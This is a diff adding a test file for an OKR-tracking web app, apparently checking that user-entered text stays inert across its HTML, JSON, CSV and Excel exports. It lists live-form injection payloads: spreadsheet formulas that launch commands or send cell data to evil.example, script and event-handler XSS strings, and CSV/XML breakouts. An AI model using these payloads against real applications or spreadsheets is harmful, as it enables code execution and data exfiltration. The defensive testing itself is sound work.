@@ -1,0 +1,160 @@
+import { SELF } from 'cloudflare:test'
+import { parse } from 'csv-parse/sync'
+import { unzipSync } from 'fflate'
+import { beforeAll, describe, expect, test } from 'vitest'
+import { clientOf, newOrganization, newRow, SERVER, taken } from './server.ts'
+
+const CYCLE = { name: '2026-Q4', start: '2026-10-01', end: '2027-10-01', state: 'running' } as const
+const ALL = { titles: true, owners: true, notes: true }
+
+/** What a person could type to make something happen where it is read, each with a word to find it by. */
+const PAYLOADS: Readonly<Record<string, string>> = {
+  formula: '=HYPERLINK("https://evil.example/?"&A1,"formulaX")',
+  plus: "+cmd|' /C calc'!A0 plusX",
+  minus: "-2+3+cmd|' /C calc'!A0 minusX",
+  at: '@SUM(1+1) atX',
+  tab: '\t=1+1 tabX',
+  return: '\r=1+1 returnX',
+  'full width': '＝1+1 fullX',
+  script: '<script>alert("scriptX")</script>',
+  handler: '"><img src=x onerror="alert(1)"> handlerX',
+  attribute: "' onmouseover='alert(1)' x=' attributeX",
+  entity: '&lt;script&gt; &#60;b&#62; entityX',
+  'style end': '</style></title><script>1</script> styleX',
+  address: 'javascript:alert(1) addressX',
+  markdown: '[markdownX](javascript:alert(1)) ![x](https://evil.example/x.png) **bold**',
+  'csv quote': '","=1+1","quoteX',
+  'csv line': 'one\r\n=1+1,lineX\r\nthree',
+  'xml end': ']]></t></si><x/> xmlX',
+  'error name': '#REF! errorX',
+  escape: '_x003D_1+1 escapeX',
+  direction: '\u202Etxt.exe directionX',
+}
+const WORDS = Object.values(PAYLOADS).map((payload) => /\w+X/.exec(payload)?.[0] ?? '')
+
+/** Every text that somebody can type, by where it goes in. */
+const TEAM_NAMES = Object.keys(PAYLOADS).map((name, place) => ({ name, id: `t${place}` }))
+
+let links: { readonly company: string; readonly team: string; readonly scaling: string }
+
+beforeAll(async () => {
+  const names = Object.values(PAYLOADS)
+  const teams = [
+    { id: 'company', parentId: null },
+    { id: 'typed', parentId: 'company' },
+    ...TEAM_NAMES.map(({ id }, place) => ({ id, parentId: 'company', name: names[place] ?? '' })),
+  ]
+  const { owner } = await newOrganization(teams, [CYCLE])
+  const { code } = taken(await owner.call('invite', { params: { team: 'typed' }, body: {} }))
+  const { token } = taken(
+    await clientOf(null).call('join', { body: { code, person: PAYLOADS.script ?? '' } }),
+  )
+  const changes = Object.values(PAYLOADS).flatMap((text, place) => [
+    ...newRow('objectives', `O${place}`, {
+      title: text,
+      owner: text,
+      supports: text,
+      notes: text,
+      state: 'Agreed',
+    }),
+    ...newRow('keyResults', `K${place}`, {
+      objectiveId: `O${place}`,
+      title: text,
+      owner: text,
+      unit: text,
+      type: 'Increase',
+      baseline: 0,
+      target: 10,
+    }),
+    ...newRow('checkIns', `C${place}`, {
+      keyResultId: `K${place}`,
+      date: '2026-10-02',
+      value: 1,
+      confidence: 1,
+      by: text,
+      whatChanged: text,
+      blocker: text,
+    }),
+  ])
+  const params = { team: 'typed', cycle: CYCLE.name }
+  taken(await clientOf(token).call('sync', { params, body: { baseRevision: 0, changes } }))
+  const link = async (teamId: string, kind: 'rollup' | 'scaling') =>
+    taken(await owner.call('createLink', { body: { teamId, kind, show: ALL } })).url
+  links = {
+    company: await link('company', 'rollup'),
+    team: await link('typed', 'rollup'),
+    scaling: await link('company', 'scaling'),
+  }
+})
+
+const LINKS = ['company', 'team', 'scaling'] as const
+const read = (link: (typeof LINKS)[number], form: string) => SELF.fetch(`${links[link]}${form}`)
+
+describe.each(LINKS)('what people typed, through the %s link,', (link) => {
+  test('is text on the page', async () => {
+    const html = await (await read(link, '')).text()
+    for (const word of WORDS) expect(html).toContain(word)
+    const tags = [...html.matchAll(/<(\/?[a-z]+[0-9]?|!doctype)((?:\s+[a-z][\w-]*(?:="[^"]*")?)*)\s*\/?>/gi)]
+    // Every `<` begins one of our own tags, none of which can do anything.
+    expect(html.split('<')).toHaveLength(tags.length + 1)
+    for (const [, name = '', attributes = ''] of tags) {
+      expect(['script', 'style', 'img', 'iframe', 'object', 'base']).not.toContain(name.replace('/', ''))
+      expect(attributes).not.toMatch(/\s(on\w+|style|srcset)=/i)
+      const href = /\s(?:href|src)="([^"]*)"/.exec(attributes)?.[1] ?? '/'
+      expect(href).toMatch(/^(\/|#|data:,$)/)
+    }
+  })
+
+  test('comes back as it was typed in JSON', async () => {
+    const response = await read(link, '.json')
+    expect(response.headers.get('content-type')).toBe('application/json')
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
+    const values = valuesIn(await response.json())
+    for (const payload of Object.values(PAYLOADS)) expect(values).toContain(payload)
+  })
+
+  test('is no formula in CSV, and no line or column of its own', async () => {
+    const rows = parse(await (await read(link, '.csv')).text(), { bom: true, relax_column_count: false })
+    const cells = (rows as string[][]).flat()
+    for (const cell of cells) {
+      if (!Number.isFinite(Number(cell))) expect(cell).not.toMatch(/^\s*[=+\-@\t\r＝＋－＠]/)
+    }
+    for (const payload of Object.values(PAYLOADS)) {
+      expect(
+        cells.some((cell) => cell === payload || cell === `'${payload}`),
+        payload,
+      ).toBe(true)
+    }
+  })
+
+  test('is text in the workbook, which has no formula, link or macro at all', async () => {
+    const parts = unzipSync(new Uint8Array(await (await read(link, '.xlsx')).arrayBuffer()))
+    const text = (name: string) => new TextDecoder().decode(parts[name])
+    const sheets = Object.keys(parts).filter((name) => /worksheets\/sheet\d+\.xml$/.test(name))
+    expect(sheets.length).toBeGreaterThan(1)
+    for (const name of sheets) expect(text(name)).not.toMatch(/<f[ >]|<hyperlink|t="e"/)
+    expect(Object.keys(parts).join()).not.toMatch(/vba|externalLink|connections/i)
+    const relations = Object.keys(parts).filter((name) => name.endsWith('.rels'))
+    for (const name of relations) expect(text(name)).not.toContain('TargetMode="External"')
+    const strings = text('xl/sharedStrings.xml')
+    const texts = [strings, ...sheets.map(text)].join()
+    for (const word of WORDS) expect(texts).toContain(word)
+    expect(strings).not.toMatch(/<script|<img|<x\/>/)
+    expect(strings).toContain('_x005F_x003D_1+1')
+  })
+})
+
+test('is no address of ours that it makes', async () => {
+  for (const payload of Object.values(PAYLOADS)) {
+    const address = `${links.company}/${encodeURIComponent(payload)}?cycle=${encodeURIComponent(payload)}`
+    const response = await SELF.fetch(address)
+    expect(response.status).toBe(404)
+    expect(await response.text()).not.toMatch(/<script|<img|onerror=/)
+  }
+  expect((await SELF.fetch(`${SERVER}/r/${encodeURIComponent(PAYLOADS.script ?? '')}`)).status).toBe(404)
+})
+
+function valuesIn(value: unknown): unknown[] {
+  if (typeof value !== 'object' || value === null) return [value]
+  return Object.values(value).flatMap(valuesIn)
+}
